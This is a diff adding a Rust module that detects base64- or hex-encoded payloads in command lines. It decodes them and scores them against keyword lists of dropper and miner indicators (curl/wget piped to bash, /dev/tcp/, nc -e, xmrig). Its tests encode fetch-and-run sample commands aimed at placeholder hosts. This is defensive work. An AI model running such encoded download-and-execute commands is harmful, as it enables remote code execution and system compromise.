@@ -0,0 +1,212 @@
+use base64::Engine;
+use regex::Regex;
+use std::sync::OnceLock;
+
+/// Blobs shorter than this are too common (hashes, tokens) to be interesting
+const MIN_BLOB_LEN: usize = 40;
+
+/// Never decode more than this many input characters from a single blob
+const MAX_DECODE_LEN: usize = 64 * 1024;
+
+/// Hex digest lengths (SHA-1, SHA-224, SHA-256, SHA-384, SHA-512): checksums in
+/// command lines, not payloads
+const DIGEST_HEX_LENS: &[usize] = &[40, 56, 64, 96, 128];
+
+/// Something in the command line that decodes or executes inline code. Without one a
+/// blob is just data (tokens, keys, build hashes) and isn't inspected.
+const DECODE_CONTEXT: &[&str] = &[
+    "base64 -d", "base64 --decode", "base64 -D", "atob(", "buffer.from(", "b64decode",
+    "frombase64string", "-encodedcommand", "fromhex", "unhexlify", "xxd -r", "printf ",
+    "echo -e", "eval", "exec(", " -e ", " -c ", "| sh", "|sh", "| bash", "|bash",
+];
+
+/// Keywords that make decoded content look like a dropper or miner
+const DECODED_INDICATORS: &[&str] = &[
+    "curl ", "wget ", "| bash", "|bash", "| sh", "|sh", "bash -c", "sh -c", "/dev/tcp/",
+    "chmod +x", "/tmp/", "/dev/shm/", "nohup ", "stratum+", "xmrig", "eval(",
+    "child_process", "nc -e", "python -c", "http://", "https://",
+];
+
+#[derive(Debug, Clone, PartialEq)]
+pub enum PayloadEncoding {
+    Base64,
+    Hex,
+}
+
+#[derive(Debug, Clone)]
+pub struct EncodedPayload {
+    pub encoding: PayloadEncoding,
+    pub blob_len: usize,
+    /// Decoded text, if the blob decoded to mostly printable content
+    pub decoded: Option<String>,
+    /// Suspicious keywords found in the decoded content
+    pub indicators: Vec<String>,
+}
+
+fn base64_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"[A-Za-z0-9+/]{40,}={0,2}").unwrap())
+}
+
+fn hex_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"(?:\\x)?(?:[0-9a-fA-F]{2}(?:\\x)?){20,}").unwrap())
+}
+
+/// Whether the command line decodes or runs inline code (see `DECODE_CONTEXT`)
+fn has_decode_context(command_line: &str) -> bool {
+    let lower = command_line.to_lowercase();
+    DECODE_CONTEXT.iter().any(|marker| lower.contains(marker))
+}
+
+/// Find long base64/hex blobs in a command line that decodes or executes inline
+/// code, and decode them for inspection
+pub fn find_encoded_payloads(command_line: &str) -> Vec<EncodedPayload> {
+    let mut payloads = Vec::new();
+    if !has_decode_context(command_line) {
+        return payloads;
+    }
+
+    for m in hex_regex().find_iter(command_line) {
+        let escaped = m.as_str().contains("\\x");
+        let digits: String = m.as_str().replace("\\x", "");
+        if digits.len() < MIN_BLOB_LEN || (!escaped && DIGEST_HEX_LENS.contains(&digits.len())) {
+            continue;
+        }
+        let decoded = decode_hex(&digits[..digits.len().min(MAX_DECODE_LEN)]);
+        payloads.push(inspect(PayloadEncoding::Hex, digits.len(), decoded));
+    }
+
+    for m in base64_regex().find_iter(command_line) {
+        let blob = m.as_str();
+        // Pure hex runs are already handled above
+        if blob.chars().all(|c| c.is_ascii_hexdigit()) {
+            continue;
+        }
+        let decoded = decode_base64(&blob[..blob.len().min(MAX_DECODE_LEN)]);
+        payloads.push(inspect(PayloadEncoding::Base64, blob.len(), decoded));
+    }
+
+    payloads
+}
+
+/// Confidence contribution for encoded payloads in a command line
+pub fn payload_confidence(payloads: &[EncodedPayload]) -> f32 {
+    if payloads.iter().any(|p| !p.indicators.is_empty()) {
+        0.4
+    } else if !payloads.is_empty() {
+        0.1
+    } else {
+        0.0
+    }
+}
+
+fn inspect(encoding: PayloadEncoding, blob_len: usize, decoded: Option<Vec<u8>>) -> EncodedPayload {
+    let decoded = decoded.and_then(|bytes| printable_text(&bytes));
+    let indicators = decoded
+        .as_deref()
+        .map(|text| {
+            let lower = text.to_lowercase();
+            DECODED_INDICATORS
+                .iter()
+                .filter(|kw| lower.contains(*kw))
+                .map(|kw| kw.trim().to_string())
+                .collect()
+        })
+        .unwrap_or_default();
+
+    EncodedPayload {
+        encoding,
+        blob_len,
+        decoded,
+        indicators,
+    }
+}
+
+fn decode_base64(blob: &str) -> Option<Vec<u8>> {
+    let engine = &base64::engine::general_purpose::STANDARD;
+    if let Ok(bytes) = engine.decode(blob) {
+        return Some(bytes);
+    }
+
+    // Command lines are truncated, so drop padding and any trailing partial quantum
+    let trimmed = blob.trim_end_matches('=');
+    let usable = trimmed.len() - trimmed.len() % 4;
+    engine.decode(&trimmed[..usable]).ok()
+}
+
+fn decode_hex(digits: &str) -> Option<Vec<u8>> {
+    let even = digits.len() - digits.len() % 2;
+    hex::decode(&digits[..even]).ok()
+}
+
+/// Only keep decoded content that is mostly printable text (binary noise is not re-scanned)
+fn printable_text(bytes: &[u8]) -> Option<String> {
+    if bytes.is_empty() {
+        return None;
+    }
+    let printable = bytes
+        .iter()
+        .filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace())
+        .count();
+    if printable * 10 >= bytes.len() * 9 {
+        Some(String::from_utf8_lossy(bytes).into_owned())
+    } else {
+        None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn decodes_and_flags_base64_curl_pipe_bash() {
+        let payload = base64::engine::general_purpose::STANDARD
+            .encode("curl -s http://203.0.113.9/x.sh | bash");
+        let cmd = format!("bash -c \"$(echo {} | base64 -d)\"", payload);
+
+        let found = find_encoded_payloads(&cmd);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].encoding, PayloadEncoding::Base64);
+        assert!(found[0].decoded.as_deref().unwrap().starts_with("curl -s http://"));
+        assert!(found[0].indicators.contains(&"curl".to_string()));
+        assert!(found[0].indicators.contains(&"| bash".to_string()));
+        assert_eq!(payload_confidence(&found), 0.4);
+    }
+
+    #[test]
+    fn decodes_hex_and_tolerates_garbage() {
+        let cmd = format!("node -e x {}", hex::encode("wget http://evil.example/m -O /tmp/m"));
+        let found = find_encoded_payloads(&cmd);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].encoding, PayloadEncoding::Hex);
+        assert!(found[0].indicators.contains(&"wget".to_string()));
+
+        // Long but undecodable-to-text blob still counts as weakly suspicious
+        let noise = "node -e eval(atob('/////////////////////////////////////////////AAAA'))";
+        let found = find_encoded_payloads(noise);
+        assert_eq!(found.len(), 1);
+        assert!(found[0].decoded.is_none());
+        assert_eq!(payload_confidence(&found), 0.1);
+
+        assert!(find_encoded_payloads("node server.js --port 3000").is_empty());
+    }
+
+    #[test]
+    fn ignores_data_blobs_and_digests() {
+        // Tokens and keys passed as plain arguments are not decoded or run
+        let token = base64::engine::general_purpose::STANDARD.encode("curl http://203.0.113.9/x.sh | bash");
+        assert!(find_encoded_payloads(&format!("node app.js --token={}", token)).is_empty());
+
+        // Checksums are hex of a digest's length, even next to an exec flag
+        let sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+        assert!(find_encoded_payloads(&format!("sh -c 'sha256sum -c - <<< {}'", sha256)).is_empty());
+        let sha1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3";
+        assert!(find_encoded_payloads(&format!("bash -c 'git checkout {}'", sha1)).is_empty());
+
+        // The same length written as \x escapes is shellcode, not a digest
+        let escaped: String = (0..32).map(|_| "\\x41").collect();
+        assert_eq!(find_encoded_payloads(&format!("printf '{}'", escaped)).len(), 1);
+    }
+}